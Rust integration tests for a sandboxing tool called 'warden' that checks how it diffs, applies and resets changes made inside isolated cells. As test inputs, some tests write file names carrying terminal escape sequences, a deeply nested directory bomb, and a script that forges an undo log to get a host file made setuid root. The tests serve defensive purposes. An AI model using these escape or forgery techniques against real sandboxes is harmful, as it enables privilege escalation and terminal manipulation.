fn an_apply_past_its_bound_is_refused_and_says_how_to_raise_it() {
    let ws = project();
    let before = tree(ws.path());
    let name = unique("bound");
    let ran = run_sh(
        &["--name", &name, "--workspace", ws.path().to_str().unwrap()],
        "cd /workspace && head -c 8192 /dev/zero | tr '\\0' x > data && echo more >> README.md",
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    let refused = warden()
        .args(["apply", &name])
        .env("WARDEN_APPLY_MAX_BYTES", "4096")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&refused.stderr).into_owned();
    assert!(!refused.status.success(), "{err}");
    assert!(err.contains("more than its bound of 4096 bytes"), "{err}");
    assert!(err.contains("WARDEN_APPLY_MAX_BYTES"), "{err}");
    assert_eq!(tree(ws.path()), before, "the refused apply wrote something");
    warden_ok(&["apply", &name]);
    assert_eq!(
        std::fs::read(ws.path().join("data")).unwrap(),
        vec![b'x'; 8192]
    );
    warden_ok(&["rm", &name]);
}

/// What an apply prints of the names the cell chose (applied, skipped, refused in an error) is
/// escaped as the diff escapes it, dry run or not.
#[test]
fn what_an_apply_prints_of_the_cells_names_cannot_steer_the_terminal() {
    let ws = project();
    let name = unique("ansi-apply");
    let ran = run_sh(
        &["--name", &name, "--workspace", ws.path().to_str().unwrap()],
        "cd /workspace && echo a > \"$(printf 'a\\033[2Kb.txt')\" \
         && echo x > \"$(printf 'run\\033[31m.sh')\" && chmod +x run*.sh \
         && mkfifo \"$(printf 'fifo\\033]0;title\\007')\"",
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    let steers = |out: &str| ['\x1b', '\x07'].into_iter().find(|c| out.contains(*c));
    // Named alone, the FIFO is refused: the error quotes its name.
    let refused = warden()
        .args(["apply", &name, "fifo\x1b]0;title\x07"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&refused.stderr).into_owned();
    assert!(!refused.status.success(), "{err}");
    assert_eq!(steers(&err), None, "reached the terminal: {err:?}");
    assert!(err.contains("fifo\\u{1b}]0;title\\u{7}"), "{err}");
    for args in [&["apply", &name, "--dry-run"][..], &["apply", &name]] {
        let ran = warden_ok(args);
        assert_eq!(steers(&ran.stdout), None, "reached the terminal: {ran:?}");
        assert!(ran.stdout.contains("a\\u{1b}[2Kb.txt"), "{ran:?}");
        assert!(
            ran.stdout.contains("skipped \"run\\u{1b}[31m.sh\""),
            "{ran:?}"
        );
        assert!(
            ran.stdout.contains("skipped \"fifo\\u{1b}]0;title\\u{7}\""),
            "{ran:?}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(ws.path().join("a\x1b[2Kb.txt")).unwrap(),
        "a\n"
    );
    warden_ok(&["rm", &name]);
}

#[test]
fn a_running_cell_writes_creates_and_deletes_after_a_reset() {
    let ws = project();
    writes_after_reset(
        &|args: &[&str]| {
            let mut cmd = warden();
            cmd.args(args);
            cmd
        },
        ws.path(),
        &unique("rewrite"),
    );
}

/// A cell that makes a tree deeper than the warden walks cannot take the warden down with it:
/// the diff lists the deep directory as refused, and a reset of the running cell is refused
/// whole, saying why (the walks recursed without bound, and overflowed a thread's stack).
#[test]
fn a_tree_deeper_than_the_walks_go_is_refused_not_a_crash() {
    let ws = project();
    let name = unique("deep");
    let script = "cd /workspace && echo edited > README.md && python3 -c \"import os\n\
                  for i in range(3000): os.mkdir('d'); os.chdir('d')\n\
                  open('leaf', 'w').write('deep')\" && echo ready && exec sleep 3600";
    let (mut cell, lines) = spawn_watched(&name, ws.path(), script);
    wait_for_line(&lines, "ready");
    let diff = Ran::from(warden().args(["diff", &name, "--stat"]).output().unwrap());
    assert_eq!(diff.code, 0, "{diff:?}");
    assert!(diff.stdout.contains("README.md"), "{diff:?}");
    assert!(diff.stdout.contains("deeper than"), "{diff:?}");
    let reset = Ran::from(warden().args(["reset", &name]).output().unwrap());
    assert_ne!(reset.code, 0, "{reset:?}");
    assert!(
        reset.code < 128 && reset.stderr.contains("nothing was changed"),
        "{reset:?}"
    );
    // Nothing was changed: the edit is still there.
    let diff = Ran::from(warden().args(["diff", &name, "--stat"]).output().unwrap());
    assert!(diff.stdout.contains("README.md"), "{diff:?}");
    warden_ok(&["kill", &name]);
    let _ = cell.wait();
    warden_ok(&["rm", &name]);
}

#[test]
fn a_reset_without_a_daemon_takes_no_snapshot_of_an_earlier_cell_of_its_name() {
    let first = project();
    let second = tempdir();
    std::fs::write(second.path().join("two"), "2\n").unwrap();
    let name = unique("earlier");
    let run_on = |workspace: &Path, script: &str| {
        let ran = run_sh(
            &["--name", &name, "--workspace", workspace.to_str().unwrap()],
            script,
        );
        assert_eq!(ran.code, 0, "{ran:?}");
    };
    run_on(first.path(), "echo earlier > /workspace/secret");
    warden_ok(&["snapshot", &name, "--as", "s1"]);
    let snap = format!("{name}@s1");
    // The cell goes; its snapshot stays (a fork may start from it). A new cell takes the name,
    // on another workspace.
    warden_ok(&["rm", &name]);
    run_on(second.path(), "echo later > /workspace/own");
    let reset = Ran::from(
        warden()
            .args(["reset", &name, "--to", "s1"])
            .output()
            .unwrap(),
    );
    let diff = warden_ok(&["diff", &name, "--stat"]).stdout;
    assert!(
        !diff.contains("secret"),
        "a reset gave the new cell the earlier one's files: {diff}"
    );
    assert_eq!(reset.code, 125, "{reset:?}");
    assert!(
        reset.stderr.contains("an earlier cell named") && reset.stderr.contains("--from"),
        "{reset:?}"
    );
    warden_ok(&["rm", &name]);
    warden_ok(&["rm", &snap]);
}

/// A file or a link where the host has a directory removes that directory, and all it holds,
/// when applied: the diff lists what the host holds there as deleted and the change itself as
/// sensitive (shown as `M lib` with the patch of a new file, the review never named the host
/// files an apply then removed); and a deleted directory that holds a protected path is
/// sensitive, as a change of the path itself is.
#[test]
fn what_a_replaced_or_deleted_host_directory_held_is_reviewed_before_it_goes() {
    let ws = tempdir();
    let p = ws.path();
    for dir in ["lib/deep", "vendor/pkg", "ci"] {
        std::fs::create_dir_all(p.join(dir)).unwrap();
    }
    for (file, text) in [
        ("lib/important.txt", "keep\n"),
        ("lib/deep/x", "deep\n"),
        ("vendor/pkg/mod.rs", "mod\n"),
        ("ci/deploy.sh", "deploy\n"),
        ("ci/notes", "n\n"),
    ] {
        std::fs::write(p.join(file), text).unwrap();
    }
    let yaml =
        "version: 1\nextends: minimal\nfilesystem:\n  workspace:\n    protect: [ci/deploy.sh]\n";
    let policy = policy(p.parent().unwrap(), yaml);
    let name = unique("replaced");
    let ran = run_sh(
        &[
            "--name",
            &name,
            "--policy",
            policy.to_str().unwrap(),
            "--workspace",
            p.to_str().unwrap(),
        ],
        "cd /workspace && rm -r lib vendor ci && echo 'just a note' > lib && ln -s lib vendor && echo done",
    );
    assert!(ran.stdout.contains("done"), "{ran:?}");
    let json = warden_ok(&["diff", &name, "--json"]).stdout;
    let diff: serde_json::Value = serde_json::from_str(&json).unwrap();
    let changes: Vec<(String, String, bool)> = diff["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["kind"].as_str().unwrap().to_owned(),
                c["path"].as_str().unwrap().to_owned(),
                !c["sensitive"].is_null(),
            )
        })
        .collect();
    let expected: Vec<(String, String, bool)> = [
        ("deleted", "ci", true),
        ("modified", "lib", true),
        ("deleted", "lib/deep", false),
        ("deleted", "lib/important.txt", false),
        ("modified", "vendor", true),
        ("deleted", "vendor/pkg", false),
    ]
    .iter()
    .map(|(k, path, s)| ((*k).to_owned(), (*path).to_owned(), *s))
    .collect();
    assert_eq!(changes, expected, "{json}");

    // Unnamed, the sensitive changes stay out: the protected file, and the directory the file
    // and the link would replace, keep what the review did not name.
    let applied = warden_ok(&["apply", &name]);
    for skipped in ["ci", "lib", "vendor"] {
        assert!(
            applied
                .stdout
                .contains(&format!("skipped {skipped}: sensitive")),
            "{applied:?}"
        );
    }
    assert!(p.join("ci/deploy.sh").is_file(), "{applied:?}");
    assert!(
        p.join("lib").is_dir() && p.join("vendor").is_dir(),
        "{applied:?}"
    );
    assert!(!p.join("lib/deep").exists() && !p.join("vendor/pkg").exists());
    // Named, each goes as the cell left it.
    warden_ok(&["apply", &name, "--force", "ci", "lib", "vendor"]);
    assert!(!p.join("ci").exists());
    assert_eq!(
        std::fs::read_to_string(p.join("lib")).unwrap(),
        "just a note\n"
    );
    assert_eq!(
        std::fs::read_link(p.join("vendor")).unwrap(),
        Path::new("lib")
    );
    warden_ok(&["rm", "--force", &name]);
}

/// A cell cannot have the warden undo an apply it forged. An apply's staging folder and undo
/// log lie in the host directory, where a cell's files can arrive (by an apply, here, or
/// written in direct mode); a cell put a staging folder there whose log asked for a host
/// file's mode to be set-uid, and the next diff of the directory, the warden's recovery of a
/// "killed" apply, made that file setuid root. Logs are marked with the warden's own key now.
#[test]
fn a_cell_cannot_have_the_warden_undo_an_apply_it_forged() {
    use std::os::unix::fs::PermissionsExt as _;
    let ws = tempdir();
    let dir = ws.path();
    std::fs::write(dir.join("f"), "a host file\n").unwrap();
    std::fs::set_permissions(dir.join("f"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let (forger, other) = (unique("forger"), unique("other"));
    // Both cells go however the test ends (the forger's layer is kept after its apply).
    struct Removed<'a>([&'a str; 2]);
    impl Drop for Removed<'_> {
        fn drop(&mut self) {
            for name in self.0 {
                let _ = warden().args(["rm", "--force", name]).output();
            }
        }
    }
    let _removed = Removed([&forger, &other]);
    let forge = "import os, struct\n\
                 def field(b): return struct.pack('<I', len(b)) + b\n\
                 d = '/workspace/.warden-apply-999999-1-1'\n\
                 os.makedirs(d)\n\
                 open(d + '/log', 'wb').write(b'P' + field(b'f') + field(struct.pack('<I', 0o4755)) + bytes(32))\n";
    for (name, argv) in [
        (&forger, vec!["python3", "-c", forge]),
        (&other, vec!["sh", "-c", "echo z > g"]),
    ] {
        let ran = Ran::from(
            warden()
                .args([
                    "run",
                    "--name",
                    name,
                    "--workspace",
                    dir.to_str().unwrap(),
                    "--",
                ])
                .args(argv)
                .output()
                .unwrap(),
        );
        assert_eq!(ran.code, 0, "{ran:?}");
        if name == &forger {
            // The forged folder reaches the host directory as any change does.
            let applied = Ran::from(warden().args(["apply", name]).output().unwrap());
            assert_eq!(applied.code, 0, "{applied:?}");
            assert!(dir.join(".warden-apply-999999-1-1/log").exists());
        }
    }
    // The next diff of the directory looks for killed applies to undo.
    let diff = Ran::from(warden().args(["diff", &other]).output().unwrap());
    assert_eq!(diff.code, 0, "{diff:?}");
    let mode = std::fs::metadata(dir.join("f"))
        .unwrap()
        .permissions()
        .mode()
        & 0o7777;
    assert_eq!(
        mode, 0o755,
        "the warden set the mode a cell's forged log asked for"
    );
}
